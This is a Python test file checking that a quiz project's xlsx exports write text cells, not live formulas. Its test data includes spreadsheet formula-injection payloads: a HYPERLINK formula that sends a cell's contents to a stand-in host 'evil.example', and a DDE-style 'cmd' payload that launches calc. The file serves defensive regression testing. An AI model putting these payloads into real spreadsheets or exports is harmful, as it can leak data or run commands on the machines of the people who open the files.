"""M6 (issue 13): the question-bank xlsx export wrote `=HYPERLINK(...)` from an imported answer as a
live formula, and re-importing the file then failed (the formula's cached value is empty), breaking
the round trip. Now every text is written as a text cell (`core.tables.xlsx_formulas_as_text`): no
formula, the text unchanged, export → import → export byte-identical. The other xlsx writers of the
project are checked here too (the registered exporters: tests/security/test_exports.py).
"""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from org import roles
from quizzes.formats import ParsedAnswer, ParsedQuestion, xlsx
from quizzes.services.bank import questions_export, questions_import
from tests.factories import EmployeeFactory, give_role, make_agency, make_unit
from tests.quizzes.factories import make_quiz

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
TEXTS = [EVIL, "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-50 người", "'=đã có dấu nháy", "="]  # (leading spaces are trimmed by every import)


def _bank() -> list[ParsedQuestion]:
    questions = []
    for i, text in enumerate(TEXTS):
        questions.append(ParsedQuestion(
            "multichoice", f"{text} (câu {i})", name=f"{text} tiêu đề", category=f"{text} nhóm",
            general_feedback=f"{text} phản hồi chung",
            answers=[ParsedAnswer(text, Decimal(1), f"{text} phản hồi"), ParsedAnswer(f"Sai {i}", Decimal(0))]))
    questions.append(ParsedQuestion("truefalse", EVIL, name="đúng sai", category="x", answers=[
        ParsedAnswer("Đúng", Decimal(0), EVIL), ParsedAnswer("Sai", Decimal(1), "")]))
    return questions


def _formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_m6_bank_export_writes_no_formula_and_keeps_the_text():
    data = xlsx.write(_bank())
    assert _formulas(data) == []
    cells = {cell.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row}
    assert EVIL in cells  # the text itself, unprefixed: the cell's type is what neutralises it


@pytest.mark.django_db
def test_m6_bank_round_trip_export_import_export_is_byte_identical():
    quiz = make_quiz(slug="m6")
    questions_import(quiz=quiz, questions=_bank())
    first = questions_export(quiz=quiz, fmt="xlsx")
    parsed = xlsx.parse(first)  # failed before: the formula cells read back empty
    assert [a.text for q in parsed for a in q.answers][:1] == [EVIL]
    again = make_quiz(slug="m6-lai")
    questions_import(quiz=again, questions=parsed)
    assert questions_export(quiz=again, fmt="xlsx") == first


@pytest.mark.django_db
def test_m6_roster_template_writes_unit_names_as_text(client):
    agency = make_agency("EVL", name=EVIL)  # the agency's row has no indent: a formula before the fix
    make_unit(agency, "EVIL", name=EVIL)
    hr = EmployeeFactory(agency=agency, unit=agency)
    give_role(hr.user, roles.HR)
    client.force_login(hr.user)
    data = client.get(reverse("org_roster:template")).content
    assert _formulas(data) == []
    assert any(EVIL in str(c.value) for row in load_workbook(io.BytesIO(data))["Hướng dẫn"].iter_rows() for c in row)


def test_m6_blank_bank_template_has_no_formula():
    assert _formulas(xlsx.blank_template()) == []
